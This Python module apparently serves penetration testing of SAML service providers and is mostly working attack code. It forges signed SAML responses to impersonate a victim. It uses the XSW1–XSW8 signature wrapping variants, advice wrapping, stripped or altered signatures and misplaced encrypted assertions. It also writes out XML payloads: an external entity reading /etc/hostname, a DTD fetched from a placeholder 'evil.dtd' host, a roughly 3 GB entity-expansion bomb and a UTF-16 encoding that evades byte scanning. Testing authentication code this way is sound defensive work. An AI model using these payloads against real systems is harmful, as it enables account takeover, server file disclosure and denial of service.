"""Answers of a SAML provider that an attacker changed after they were signed: signature wrapping, and DTDs.

The attacker has an honest answer for the own account, and wants to be `VICTIM`. The variants of wrapping are those of
"On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as tools for penetration tests number them.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

from lxml import etree

VICTIM = "the-victim"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"

Element = Any


def assertion_of(response: Element) -> Element:
    return response.find(f"{SAML}Assertion")


def signature_of(element: Element) -> Element:
    return element.find(f"{DS}Signature")


def evil(original: Element, *, keep_id: bool = False) -> Element:
    """A copy of a response or assertion that names the victim, without signatures."""
    made = copy.deepcopy(original)
    for signature in list(made.iter(f"{DS}Signature")):
        signature.getparent().remove(signature)
    for name in made.iter(f"{SAML}NameID"):
        name.text = VICTIM
    if not keep_id:
        made.set("ID", "_evil")
    return made


def _put_first(parent: Element, child: Element) -> None:
    parent.insert(0, child)


def _after_issuer(parent: Element, child: Element) -> None:
    """Where a signature belongs."""
    parent.insert(1, child)


def _wrapped_in_object(signature: Element, content: Element) -> None:
    etree.SubElement(signature, f"{DS}Object").append(content)


def xsw1(response: Element) -> Element:
    """A new response; its signature contains the signed response."""
    made, signature = evil(response), signature_of(response)
    original = copy.deepcopy(response)
    original.remove(signature_of(original))
    signature = copy.deepcopy(signature)
    _after_issuer(made, signature)
    _wrapped_in_object(signature, original)
    return made


def xsw2(response: Element) -> Element:
    """A new response; the signed response is a child of it, before the signature."""
    made, original = evil(response), copy.deepcopy(response)
    signature = signature_of(original)
    original.remove(signature)
    _after_issuer(made, signature)
    _after_issuer(made, original)
    return made


def xsw3(response: Element) -> Element:
    """A new assertion before the signed one."""
    made = copy.deepcopy(response)
    made.insert(list(made).index(assertion_of(made)), evil(assertion_of(made)))
    return made


def xsw4(response: Element) -> Element:
    """A new assertion that contains the signed one."""
    made = copy.deepcopy(response)
    original = assertion_of(made)
    outer = evil(original)
    made.replace(original, outer)
    outer.append(original)
    return made


def xsw5(response: Element) -> Element:
    """A new assertion with the signature; the signed one, without it, is at the end."""
    made = copy.deepcopy(response)
    original = assertion_of(made)
    signature, outer = signature_of(original), evil(original)
    made.replace(original, outer)
    original.remove(signature)
    _after_issuer(outer, signature)
    made.append(original)
    return made


def xsw6(response: Element) -> Element:
    """A new assertion with the signature, which contains the signed one."""
    made = copy.deepcopy(response)
    original = assertion_of(made)
    signature, outer = signature_of(original), evil(original)
    made.replace(original, outer)
    original.remove(signature)
    _after_issuer(outer, signature)
    _wrapped_in_object(signature, original)
    return made


def xsw7(response: Element) -> Element:
    """A new assertion in the extensions of the response, with the id of the signed one."""
    made = copy.deepcopy(response)
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(evil(assertion_of(made), keep_id=True))
    _after_issuer(made, extensions)
    return made


def xsw8(response: Element) -> Element:
    """A new assertion with the signature, which contains the signed one; both have one id."""
    made = copy.deepcopy(response)
    original = assertion_of(made)
    signature, outer = signature_of(original), evil(original, keep_id=True)
    made.replace(original, outer)
    original.remove(signature)
    _after_issuer(outer, signature)
    _wrapped_in_object(signature, original)
    return made


def advice(response: Element) -> Element:
    """The signed assertion is in the advice of a new one, which has no signature."""
    made = copy.deepcopy(response)
    original = assertion_of(made)
    outer = evil(original)
    made.replace(original, outer)
    etree.SubElement(outer, f"{SAML}Advice").append(original)
    return made


def changed(response: Element) -> Element:
    """Another name in the signed assertion."""
    made = copy.deepcopy(response)
    for name in made.iter(f"{SAML}NameID"):
        name.text = VICTIM
    return made


def without_signature(response: Element) -> Element:
    """Another name, and no signature."""
    return evil(response)


def encrypted(response: Element) -> Element:
    """The victim's assertion is in a place for encrypted ones."""
    made = changed(response)
    etree.SubElement(made, f"{SAML}EncryptedAssertion").append(assertion_of(made))
    return made


def encrypted_in_addition(response: Element) -> Element:
    """The signed assertion, and an encrypted one."""
    made = copy.deepcopy(response)
    etree.SubElement(made, f"{SAML}EncryptedAssertion").text = VICTIM
    return made


ON_ASSERTION: tuple[Callable[[Element], Element], ...] = (
    xsw3,
    xsw4,
    xsw5,
    xsw6,
    xsw7,
    xsw8,
    advice,
    changed,
    without_signature,
    encrypted,
    encrypted_in_addition,
)
"""For answers whose assertion is signed."""

ON_RESPONSE: tuple[Callable[[Element], Element], ...] = (xsw1, xsw2, changed, without_signature)
"""For answers that are signed as a whole."""


def external_entity(response: bytes) -> bytes:
    """The name of the person is a file of the server."""
    return _with_entities(response, '<!ENTITY name SYSTEM "file:///etc/hostname">')


def external_dtd(response: bytes) -> bytes:
    """The document type is on another server."""
    return b'<!DOCTYPE Response SYSTEM "http://127.0.0.1:1/evil.dtd">' + _body(response)


def expanding_entities(response: bytes) -> bytes:
    """A short document that has 3 GB when its entities are expanded."""
    more = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 9))
    return _with_entities(response, f'<!ENTITY l0 "{"x" * 30}">{more}<!ENTITY name "&l8;">')


def in_utf_16(response: bytes) -> bytes:
    """A document type that a search for bytes does not find."""
    return external_entity(response).decode().encode("utf-16")


def _with_entities(response: bytes, entities: str) -> bytes:
    body = _body(response)
    start = body.index(b"NameID")
    begin, end = body.index(b">", start) + 1, body.index(b"</", start)
    return f"<!DOCTYPE Response [{entities}]>".encode() + body[:begin] + b"&name;" + body[end:]


def _body(response: bytes) -> bytes:
    """The document without its XML declaration."""
    return response[response.index(b"?>") + 2 :] if response.startswith(b"<?xml") else response
